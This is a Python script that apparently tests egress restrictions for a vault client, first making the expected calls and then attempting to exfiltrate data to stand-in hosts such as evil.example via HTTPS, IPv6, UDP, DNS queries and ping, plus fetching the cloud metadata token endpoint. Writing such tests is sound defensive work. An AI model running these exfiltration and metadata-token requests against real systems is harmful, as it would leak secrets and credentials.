#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""client.py CA-FILE RESULTS: does what a vault client does, and then what a taken-over one would.

Each attempt is real; RESULTS gets one JSON line of each.
"""
import json
import socket
import struct
import subprocess
import sys
import time

VAULT = "demo-vault.vault.azure.net"
LOGIN = "login.microsoftonline.com"
CA_FILE, RESULTS = sys.argv[1:]


def curl(url, *options):
    """Through means that an answer came back, whatever it says."""
    said = subprocess.run(
        ["curl", "--silent", "--cacert", CA_FILE, "--max-time", "5", "--output", "-",
         "--write-out", "\n%{json}", *options, url], stdout=subprocess.PIPE, check=False)
    body, _, about = said.stdout.rpartition(b"\n")
    about = json.loads(about)
    return {"through": about["http_code"] != 0, "ms": about["time_total"] * 1000,
            "said": about["http_code"] or about["errormsg"], "body": body.decode(errors="replace")}


def timed(action):
    start = time.monotonic()
    try:
        said, through = action(), True
    except OSError as error:
        said, through = error.strerror or str(error), False
    return {"through": through, "ms": (time.monotonic() - start) * 1000, "said": said}


def look_up(name):
    return timed(lambda: socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0])


def ask_udp(address, port, payload):
    def exchange():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(5)
            sock.sendto(payload, (address, port))
            return f"{len(sock.recv(4096))} bytes"
    return timed(exchange)


def query(name):
    """A DNS query for the address of a name, as bytes."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


def ping(address):
    def exchange():
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
            sock.settimeout(5)
            echo = struct.pack(">BBHHH", 8, 0, 0xF7FD, 1, 1)
            sock.sendto(echo, (address, 0))
            return f"{len(sock.recv(4096))} bytes"
    return timed(exchange)


def main():
    token = "none"

    def secret():
        return curl(f"https://{VAULT}/secrets/db-password", "-H", f"Authorization: Bearer {token}")

    with open(RESULTS, "w", encoding="utf-8") as results:
        def note(part, what, name, address, service, result):
            row = {"part": part, "what": what, "name": name, "address": address, "service": service}
            json.dump({**row, **result}, results)
            results.write("\n")
            return result

        def needed(*row):
            return note("needed", *row)

        def tried(*row):
            return note("tried", *row)

        needed("look up the vault", VAULT, "192.0.2.53", "udp/53", look_up(VAULT))
        needed("ask it without a token", VAULT, "198.51.100.130", "tcp/443", secret())
        signed_in = needed("sign in", LOGIN, "198.51.100.10", "tcp/443",
                           curl(f"https://{LOGIN}/demo/oauth2/v2.0/token", "--data",
                                "grant_type=client_credentials&scope=https://vault.azure.net"))
        if signed_in["through"]:
            token = json.loads(signed_in["body"])["access_token"]
        needed("read the secret", VAULT, "198.51.100.130", "tcp/443", secret())
        needed("manage the vault", "management.azure.com", "198.51.100.70", "tcp/443",
               curl("https://management.azure.com/subscriptions/demo/resources"))
        needed("fetch the CRL", "crl3.digicert.com", "203.0.113.80", "tcp/80",
               curl("http://crl3.digicert.com/demo.crl"))

        tried("send the secret away", "evil.example", "203.0.113.66", "tcp/443",
              curl("https://evil.example/", "--data", "value=stolen"))
        tried("... over IPv6", "evil.example", "2001:db8:666::66", "tcp/443",
              curl("https://evil.example/", "--data", "value=stolen",
                   "--resolve", "evil.example:443:[2001:db8:666::66]"))
        tried("... to the same cloud", "thief.blob.core.windows.net", "203.0.113.200", "tcp/443",
              curl("https://thief.blob.core.windows.net/", "--data", "value=stolen"))
        tried("... by QUIC's port", "evil.example", "203.0.113.66", "udp/443",
              ask_udp("203.0.113.66", 443, b"stolen"))
        tried("... in a DNS query", "another resolver", "203.0.113.53", "udp/53",
              ask_udp("203.0.113.53", 53, query("stolen.evil.example")))
        tried("... in a ping", "evil.example", "203.0.113.66", "icmp", ping("203.0.113.66"))
        tried("the vault in the clear", VAULT, "198.51.100.130", "tcp/80",
              curl(f"http://{VAULT}/"))
        tried("the vault, other port", VAULT, "198.51.100.130", "tcp/8443",
              curl(f"https://{VAULT}:8443/"))
        tried("the machine's own token", "metadata service", "169.254.169.254", "tcp/80",
              curl("http://169.254.169.254/metadata/identity/oauth2/token"))


main()
